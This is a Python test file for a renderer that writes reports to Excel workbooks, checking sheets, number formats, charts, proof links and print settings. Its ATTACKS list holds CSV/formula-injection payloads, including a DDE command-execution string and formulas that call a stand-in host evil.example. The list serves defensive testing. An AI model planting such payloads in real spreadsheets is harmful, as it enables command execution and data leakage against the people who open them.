"""A report with sections as a workbook: text, tables, charts, proofs, and nothing computed."""

from __future__ import annotations

import html
import re
import zipfile
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from python_calamine import CalamineWorkbook

from branchlog import render
from branchlog.errors import BadValue
from branchlog.messages import Lang
from branchlog.render.workbooks.sheet_figures import Figures
from branchlog.report import (
    Chart,
    Column,
    Proof,
    Report,
    Run,
    Section,
    Series,
    Table,
)  # fmt: skip
from tests.render.annual import annual
from tests.render.workbooks import converted, needs_office

ONE = (Column("x", "x"),)


def save(folder: Path, report: Report, lang: Lang = "zh") -> Path:
    path = folder / "out.xlsx"
    render.save(report, path, lang=lang)
    return path


def sheets(path: Path) -> dict[str, list[list[Any]]]:
    with CalamineWorkbook.from_path(path) as book:
        return {name: book.get_sheet_by_name(name).to_python() for name in book.sheet_names}


def parts(path: Path, pattern: str) -> dict[str, str]:
    with zipfile.ZipFile(path) as book:
        names = [name for name in book.namelist() if re.fullmatch(pattern, name)]
        return {name: book.read(name).decode() for name in names}


def document(*blocks: Any, **more: Any) -> Report:
    return Report(title="标题", sections=(Section("一节", blocks),), **more)


def test_a_report_is_its_text_its_tables_its_proofs_and_its_records(tmp_path: Path) -> None:
    found = sheets(save(tmp_path, annual("zh", note="备注")))
    assert list(found) == ["报告", "2024年", "分月", "图表数据", "依据", "走访记录", "调解记录"]
    assert [row[0] for row in found["报告"]] == [
        "河畔支部2024年工作总结",
        "河畔街道/老城社区",
        "2024-01-01 至 2024-12-31",
        "一、助力基层治理",
        "2024年,开展走访慰问120余户,调解矛盾纠纷3起。",
        "备注",
        "二、年度数据",
        "见工作表“2024年”",
        "(一)分月",
        "见工作表“分月”",
        "数字都来自账本记录。",
        "河畔支部",
        "2024年12月20日",
    ]
    assert found["2024年"] == [
        ["指标", "数值", "单位", "上年", "增减"],
        ["走访户数", 126.0, "户", 118.0, 8.0],
        ["调解矛盾纠纷", 3.0, "起", "", ""],
        ["活动:面积", 500.0, "m²", "", ""],
        ["党员", 45.0, "人", 45.0, 0.0],
    ]
    assert found["图表数据"][1:3] == [
        ["走访户数", "走访户数", "1月", 10.0, "户"],
        ["走访户数", "走访户数", "2月", "", "户"],
    ]
    assert found["依据"][:3] == [
        ["指标", "数值", "报告里写作", "统计口径", "记录数", "指标编号"],
        ["走访户数", 126.0, "126户", "户名不同的算不同的户", 2.0, "visit.households"],
        ["调解矛盾纠纷", 3.0, "3起", "一条记录一起", 1.0, "mediation.disputes"],
    ]
    assert found["走访记录"][1] == [
        "01a203ce-0000-7000-8000-000000000001", date(2024, 3, 5), "慰问", 90.0, "备注",
    ]  # fmt: skip


def test_the_sheets_of_an_english_report_have_english_names(tmp_path: Path) -> None:
    assert list(sheets(save(tmp_path, annual("en"), "en"))) == [
        "Report", "2024", "By month", "Chart data", "Proofs", "visit records", "mediation records",
    ]  # fmt: skip


@pytest.mark.parametrize(
    ("lang", "shown", "value", "format_"),
    [
        ("zh", "126", 126, "0"),
        ("zh", "1,046", 1046, "#,##0"),
        ("en", "1,234,567.50", 1234567.5, "#,##0.00"),
        ("zh", "87.5%", 0.875, "0.0%"),
        ("zh", "+173.33%", 1.7333, "+0.00%;-0.00%;0.00%"),
        ("zh", "+8", 8, "+0;-0;0"),
        ("zh", "-8", -8, "0"),
        ("zh", "0", 0, "0"),
        ("zh", "0.25", 0.25, "0.00"),
        ("zh", "约500", 500, '"约"0'),
        ("zh", "808余", 808, '0"余"'),
        ("en", "about 500", 500, '"about "0'),
        ("en", "over 1,300", 1300, '"over "#,##0'),
        ("zh", "0(没有记录)", 0, '0"(没有记录)"'),
        ("en", "0 (nothing recorded)", 0, '0" (nothing recorded)"'),
    ],
)
def test_a_figure_is_a_number_that_looks_as_it_did(
    lang: Lang, shown: str, value: float, format_: str
) -> None:
    assert Figures(lang).read(shown) == (value, format_)


@pytest.mark.parametrize(
    "shown",
    ["007", "1,23", "12,34", "1.23456", "3月5日", "2024-03", "1e5", "=1", "约", "", "-", "+", "%",
     "1" * 16, "about 500", "126户", "１２", "0(没有记录", "1 2", "--8", "8余约"],
)  # fmt: skip
def test_what_is_no_figure_stays_text(shown: str) -> None:
    assert Figures("zh").read(shown) is None


def test_figures_are_shown_by_a_sheet_as_the_page_has_them(tmp_path: Path) -> None:
    table = Table((Column("v", "v", "right"),), (("约500",), ("+8",), ("87.5%",), (None,)))
    path = save(tmp_path, document(table))
    (xml,) = parts(path, "xl/styles.xml").values()
    formats = dict(re.findall(r'numFmtId="(\d+)" formatCode="([^"]*)"', xml))
    assert set(formats.values()) >= {"&quot;约&quot;0", "+0;-0;0", "0.0%"}
    assert sheets(path)["一节"] == [["v"], [500.0], [8.0], [0.875]]


def test_a_figure_leads_to_its_proof(tmp_path: Path) -> None:
    path = save(tmp_path, annual("zh"))
    xml = parts(path, r"xl/worksheets/sheet2\.xml")["xl/worksheets/sheet2.xml"]
    links = dict(re.findall(r'<hyperlink ref="(\w+)" location="([^"]*)"', xml))
    assert links == {
        "B2": "'依据'!A2", "B3": "'依据'!A3", "B4": "'依据'!A4", "B5": "'依据'!A5",
    }  # fmt: skip
    rows = sheets(path)["依据"]
    assert [rows[int(to.rpartition("A")[2]) - 1][0] for to in links.values()] == [
        "走访户数", "调解矛盾纠纷", "面积", "党员",
    ]  # fmt: skip


def test_every_sheet_prints_on_a4_with_its_headings(tmp_path: Path) -> None:
    path = save(tmp_path, annual("zh"))
    for name, xml in parts(path, r"xl/worksheets/sheet\d\.xml").items():
        assert 'paperSize="9"' in xml
        assert ('state="frozen"' in xml) == (name != "xl/worksheets/sheet1.xml")
    (workbook,) = parts(path, "xl/workbook.xml").values()
    areas = re.findall(r'_xlnm.Print_Area"[^>]*>([^<]*)<', workbook)
    assert sorted(areas) == [
        "'2024年'!$A$1:$E$5",
        "依据!$A$1:$F$5",
        "分月!$A$1:$N$21",
        "图表数据!$A$1:$E$13",
        "报告!$A$1:$A$12",
        "调解记录!$A$1:$E$2",
        "走访记录!$A$1:$E$3",
    ]


def test_a_chart_is_one_of_the_workbook_over_its_numbers(tmp_path: Path) -> None:
    wide = Chart("长", tuple(f"地点{n}" for n in range(40)), (Series("a", tuple(range(40))),))
    two = Chart("两", ("x", "y"), (Series("今年", (1, None)), Series("去年", (2, 3))), "户")
    table = Table(ONE, (("a",),))
    path = save(tmp_path, document(table, wide, two))
    charts = parts(path, r"xl/charts/chart\d\.xml")
    assert len(charts) == 2
    first, second = charts.values()
    assert '<c:barDir val="bar"/>' in first
    assert '<c:barDir val="col"/>' in second
    assert re.findall("<c:f>图表数据!([^<]*)</c:f>", second) == [
        "$A$42",
        *("$B$42", "$C$42:$C$43", "$D$42:$D$43"),
        *("$B$44", "$C$44:$C$45", "$D$44:$D$45"),
        "$E$42",
    ]
    assert sheets(path)["图表数据"][41:] == [
        ["两", "今年", "x", 1.0, "户"],
        ["两", "今年", "y", "", "户"],
        ["两", "去年", "x", 2.0, "户"],
        ["两", "去年", "y", 3.0, "户"],
    ]
    assert 'descr="两"' in "".join(parts(path, r"xl/drawings/.*\.xml").values())


#: What spreadsheets compute or fetch where it is taken for a formula (OWASP, CSV injection).
ATTACKS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    '=IMPORTXML("http://evil.example","//a")',
    "=WEBSERVICE(\"http://evil.example\")",
    "{=1+1}",
    "=Sheet1!$A$1",
    "internal:Sheet2!A1",
    "http://evil.example",
    "mailto:a@evil.example",
    "<r><t>=1</t></r>",
    "]]></t><f>1+1</f><t>",
    "_x003D_1+1",
    '"=1+1',
    "&L&G=1",
    "x" * 31 + "'!A1",
]  # fmt: skip


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_in_a_report_is_a_formula_or_a_link(tmp_path: Path, attack: str) -> None:
    columns = (Column(attack, attack), Column("v", attack, "right"))
    table = Table(columns, ((attack, attack),), attack)
    chart = Chart(attack, (attack,), (Series(attack, (1,)),), attack)
    report = Report(
        heading=(attack,),
        tables=(table,),
        title=attack,
        byline=(attack,),
        sections=(Section(attack, ((Run(attack),), table._replace(proofs=(("", "k"),)), chart)),),
        notes=(attack,),
        signature=(attack,),
        proofs=(Proof("k", attack, 1, attack, attack, ((attack, 1),)),),
        records=(table,),
    )
    path = save(tmp_path, report)
    everything = parts(path, r"xl/worksheets/sheet\d+\.xml")
    names = [name.replace("'", "''") for name in sheets(path)]
    for xml in everything.values():
        assert re.search(r"<f[ >/]", xml) is None
        for place in re.findall(r'<hyperlink [^>]*location="([^"]*)"', xml):
            assert html.unescape(place).rpartition("!")[0][1:-1] in names
        assert '<hyperlink r:id="' not in xml
    for xml in parts(path, r"xl/charts/.*\.xml").values():
        for reference in re.findall("<c:f>([^<]*)</c:f>", xml):
            assert re.fullmatch(r"图表数据!\$[A-E]\$2(:\$[CD]\$2)?", reference)
    links = "".join(parts(path, r".*\.rels").values())
    assert 'TargetMode="External"' not in links


def test_tables_without_titles_go_by_their_section_each_name_once(tmp_path: Path) -> None:
    table = Table(ONE, (("a",),))
    long = Section("很长的标题" * 10, (table, table))
    report = Report(title="t", sections=(Section("报告", (table,)), long, Section("", (table,))))
    names = list(sheets(save(tmp_path, report)))
    assert names == [
        "报告", "报告 2", "很长的标题" * 6 + "很", "很长的标题" * 5 + "很长的标 2", "表5",
    ]  # fmt: skip


def test_a_paragraph_longer_than_a_row_goes_on_in_the_next(tmp_path: Path) -> None:
    text = "😀👨‍👩‍👧汉字" * 4000
    (rows,) = sheets(save(tmp_path, document((Run(text),)))).values()
    pieces = [row[0] for row in rows[2:]]
    assert "".join(pieces) == text
    assert len(pieces) > 1
    heights = parts(tmp_path / "out.xlsx", r"xl/worksheets/sheet1\.xml").popitem()[1]
    assert all(float(ht) <= 409 for ht in re.findall(r' ht="([\d.]+)"', heights))


def test_a_cell_that_no_sheet_can_hold_is_refused(tmp_path: Path) -> None:
    report = document(records=(Table(ONE, (("x" * 40_000,),)),))
    with pytest.raises(BadValue, match="a cell holds 32767"):
        save(tmp_path, report)
    assert list(tmp_path.iterdir()) == []


def test_the_same_report_gives_the_same_bytes(tmp_path: Path) -> None:
    first = save(tmp_path, annual("zh")).read_bytes()
    assert save(tmp_path, annual("zh")).read_bytes() == first


def test_more_figures_than_a_sheet_has_links_are_all_written(tmp_path: Path) -> None:
    columns = tuple(Column(f"c{n}", f"c{n}", "right") for n in range(100))
    rows = tuple(tuple(range(100)) for _ in range(660))
    table = Table(columns, rows, proofs=tuple(("k",) * 100 for _ in rows))
    path = save(tmp_path, document(table, proofs=(Proof("k", "l", 1, "1", "r"),)))
    assert len(sheets(path)["一节"]) == 661
    xml = parts(path, r"xl/worksheets/sheet2\.xml")["xl/worksheets/sheet2.xml"]
    assert 64_000 < xml.count("<hyperlink ") <= 65_530


@needs_office
@pytest.mark.parametrize("lang", ["zh", "en"])
def test_libreoffice_opens_it(tmp_path: Path, lang: Lang) -> None:
    assert converted(save(tmp_path, annual(lang), lang), "pdf").read_bytes()[:5] == b"%PDF-"
